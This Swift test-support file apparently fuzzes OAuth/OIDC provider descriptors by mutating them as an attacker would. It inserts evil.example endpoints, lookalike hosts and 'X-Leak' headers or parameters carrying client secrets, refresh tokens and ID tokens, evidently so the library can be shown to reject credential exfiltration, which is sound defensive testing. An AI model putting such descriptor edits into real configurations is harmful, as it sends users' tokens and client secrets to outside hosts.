import CarnetDescriptors
import CarnetFoundation
import CarnetTestSupport

/// Edits a provider as somebody would who wants its users' credentials, and as chance would.
struct ProviderEditor: Sendable {
    static let evil = "https://evil.example"

    private static let hosts = [
        "evil.example", "evil.example:8443", "acme.example.evil.example", "api.acme.example", "token.acme.example",
        "exchange.acme.example", "two.shops.acme.example", "shops.acme.example", "shops.acme.example.evil.example",
        "xshops.acme.example", "id.acme.example:8443", "token.acme.example.", "TOKEN.acme.example", "localhost:9",
        "127.0.0.1:9", "[::1]:9", "token.acme.example:443", "files.acme.example",
    ]

    /// What is put at a path of keys: whole, and often enough a descriptor as before in everything else.
    private static let insertions =
        endpointInsertions + otherInsertions + metadataInsertions + otherMetadataInsertions

    private static let endpointInsertions: [(path: [String], value: JSONValue)] =
        [
            "token", "refresh", "userinfo", "revocation", "introspection", "end_session", "device_authorization",
            "pushed_authorization_request", "jwks", "authorization", "registration",
        ].map { (["acme", "endpoints", $0], .string("\(evil)/\($0)")) }

    private static let otherInsertions: [(path: [String], value: JSONValue)] =
        [
            (["acme", "endpoints"], ["mtls_endpoint_aliases": ["token": "https://evil.example/token"]]),
            (["acme", "endpoints", "refresh"], "{token.api}/token"),
            (["acme", "endpoints", "userinfo"], "https://{connection.site}.evil.example/me"),
            (["acme", "endpoints", "userinfo"], "{token.evil}/me"),
            (["acme", "endpoints", "refresh"], "https://{map(token.region, 'regions')}/token"),
            (["acme", "tables"], ["regions": ["eu": "evil.example", "us": "token.acme.example"]]),
            (["acme", "trusted_hosts"], ["evil.example", "*.evil.example", "*.shops.acme.example"]),
            (["acme", "trusted_hosts"], ["*.acme.example", "*.shops.acme.example"]),
            (["acme", "issuer"], "https://evil.example"), (["acme", "issuer"], nil),
            (["acme", "issuer_match"], ["none": "so"]),
            (["acme", "issuer_match"], ["any_of": ["https://evil.example"]]),
            (["acme", "issuer_match"], ["template": "https://{tenant}.acme.example"]),
            (["acme", "discovery"], "required"), (["acme", "discovery"], "none"), (["acme", "discovery"], "preferred"),
            (["acme", "discovery_url"], "https://evil.example/.well-known/x"),
            (["acme", "api", "hosts"], ["evil.example"]), (["acme", "api", "base_url"], "https://evil.example"),
            (["acme", "api", "base_url"], "{token.evil}"), (["acme", "api", "token_in"], ["query": "access_token"]),
            (["acme", "api", "headers"], ["X-Leak": "{client.secret}"]),
            (["acme", "api", "headers"], ["X-Leak": "{token.refresh_token}"]),
            (["acme", "api", "headers"], ["X-Leak": "{base64(join(':', client.id, client.secret))}"]),
            (["acme", "connection", "derive"], ["leak": "{base64(token.id_token)}"]),
            (["acme", "api", "headers"], ["X-Leak": "{connection.leak}"]),
            (
                ["acme", "connection", "on_connect"],
                [["url": "https://api.acme.example/x", "parameters": ["a": "{client.secret}"]]]
            ),
            (["acme", "profile", "headers"], ["X-Leak": "{token.id_token}"]),
            (["acme", "resources", "0", "headers"], ["X-Leak": "{token.refresh_token}"]),
            (["acme", "resources", "0", "url"], "/me"), (["acme", "resources", "1", "url"], "{token.evil}/things"),
            (
                ["acme", "resources"],
                [["id": "me", "title": "Me", "scope": "openid", "url": "https://evil.example/me"]]
            ),
            (
                ["acme", "profile", "requests"],
                [["url": "https://evil.example/me", "claims": ["email": "/email"]]]
            ),
            (
                ["acme", "exchange", "stolen"],
                [
                    "url": "https://evil.example/x", "after_refresh": true,
                    "parameters": ["a": "{token.refresh_token}", "b": "{client.secret}", "c": "{token.id_token}"],
                ]
            ),
            (["acme", "exchange", "long", "url"], "https://evil.example/x"),
            (["acme", "exchange", "long", "url"], "{token.evil}/x"),
            (["acme", "connection", "lookups", "site", "url"], "https://evil.example/sites"),
            (["acme", "connection", "lookups", "site", "url"], "{token.evil}/sites"),
            (["acme", "connection", "on_connect"], ["https://evil.example/hello"]),
            (["acme", "connection", "on_disconnect"], ["https://evil.example/bye"]),
            (["acme", "connection", "derive"], ["evil": "{token.evil}"]),
            (["acme", "token", "response", "capture", "api", "from"], "/evil"),
            (["acme", "token", "response", "capture", "evil"], ["from": "/evil", "example": "https://evil.example"]),
            (["acme", "token", "response", "capture", "region"], ["from": "/region", "example": "eu"]),
            (["acme", "refresh", "using"], "access_token"), (["acme", "refresh", "expiry_from"], "introspection"),
            (["acme", "refresh", "parameters"], ["secret": "{client.secret}"]),
            (["acme", "revocation", "token_in"], "authorization"),
            (["acme", "revocation", "tokens"], ["access_token"]),
            (["acme", "client", "authentication"], ["client_secret_post"]),
            (["acme", "client", "authentication"], ["client_secret_jwt"]),
            (["acme", "client", "assertion"], ["audience": "https://evil.example"]),
            (["acme", "authorization", "pushed"], "always"),
            (["acme", "environments"], ["sandbox": ["issuer": "https://evil.example"]]),
            (["acme", "extends"], nil), (["acme", "extends"], "other"), (["acme", "profile", "from"], "userinfo"),
            (["acme", "introspection", "method"], "GET"), (["acme", "logout", "parameters"], ["x": "y"]),
        ]

    private static let metadataInsertions: [(path: [String], value: JSONValue)] =
        ["token", "revocation", "introspection", "end_session", "userinfo", "pushed_authorization_request"].map {
            (["metadata", "\($0)_endpoint"], .string("\(evil)/\($0)"))
        }

    private static let otherMetadataInsertions: [(path: [String], value: JSONValue)] =
        [
            (["metadata", "issuer"], "https://evil.example"), (["metadata", "jwks_uri"], "https://evil.example/jwks"),
            (["metadata", "mtls_endpoint_aliases"], ["token_endpoint": "https://evil.example/token"]),
            (["metadata", "require_pushed_authorization_requests"], true), (["metadata"], nil),
        ]

    func edited(_ random: inout SplitMix64) -> EditedProvider {
        var documents = EditedProvider.original.documents
        for _ in 0..<random.pick([1, 1, 2, 2, 3, 4, 6]) { edit(&documents, &random) }
        documents = documents.setting(["origins"], random.once(in: 2) ? true : false)
        return EditedProvider(documents: documents)
    }

    private func edit(_ documents: inout JSONValue, _ random: inout SplitMix64) {
        switch random.below(10) {
        case 0, 1, 2, 3:
            let insertion = random.pick(Self.insertions)
            documents = documents.setting(insertion.path[...], insertion.value)
        case 4, 5:
            let urls = documents.leaves { $0.contains("://") }
            if !urls.isEmpty { moveHost(of: random.pick(urls), in: &documents, to: random.pick(Self.hosts)) }
        case 6:
            // One host for another, wherever it is.
            let old = random.pick(["id", "token", "exchange", "me", "api", "files"]) + ".acme.example"
            let text = documents.jsonText().replacing(old, with: random.pick(Self.hosts))
            documents = (try? JSONValue(parsing: text)) ?? documents
        case 7, 8:
            // A value at another one's place: a URL of an API as the token endpoint, say.
            let leaves = documents.leaves { _ in true }
            let value = documents[JSONPointer(tokens: random.pick(leaves))]
            documents = documents.setting(random.pick(leaves)[...], value)
        default:
            documents = documents.setting(random.pick(documents.leaves { _ in true })[...], nil)
        }
    }

    private func moveHost(of path: [String], in documents: inout JSONValue, to host: String) {
        guard let text = documents[JSONPointer(tokens: path)]?.string, let start = text.firstRange(of: "://")
        else { return }
        let scheme = host.hasPrefix("localhost") || host.hasPrefix("127.") || host.hasPrefix("[") ? "http" : "https"
        let rest = text[start.upperBound...].drop { !"/?".contains($0) }
        documents = documents.setting(path[...], .string("\(scheme)://\(host)\(rest)"))
    }
}

extension JSONValue {
    /// The paths of the texts that meet a condition.
    fileprivate func leaves(where condition: (String) -> Bool) -> [[String]] {
        if let string { return condition(string) ? [[]] : [] }
        let members =
            (object?.members.map { ($0.name, $0.value) } ?? [])
            + (array ?? []).enumerated().map { ("\($0.offset)", $0.element) }
        return members.flatMap { name, value in value.leaves(where: condition).map { [name] + $0 } }
    }

    /// The value with another one at a path of keys, which are made if they are missing; `nil` removes.
    fileprivate func setting(_ path: ArraySlice<String>, _ new: JSONValue?) -> JSONValue? {
        guard let name = path.first else { return new }
        if var elements = array {
            guard let index = Int(name), elements.indices.contains(index) else { return self }
            if let element = elements[index].setting(path.dropFirst(), new) {
                elements[index] = element
            } else {
                elements.remove(at: index)
            }
            return .array(elements)
        }
        var members = object ?? JSONObject()
        members[name] = (members[name] ?? .object(JSONObject())).setting(path.dropFirst(), new)
        return .object(members)
    }

    fileprivate func setting(_ path: ArraySlice<String>, _ new: JSONValue?) -> JSONValue {
        let changed: JSONValue? = setting(path, new)
        return changed ?? .object(JSONObject())
    }
}
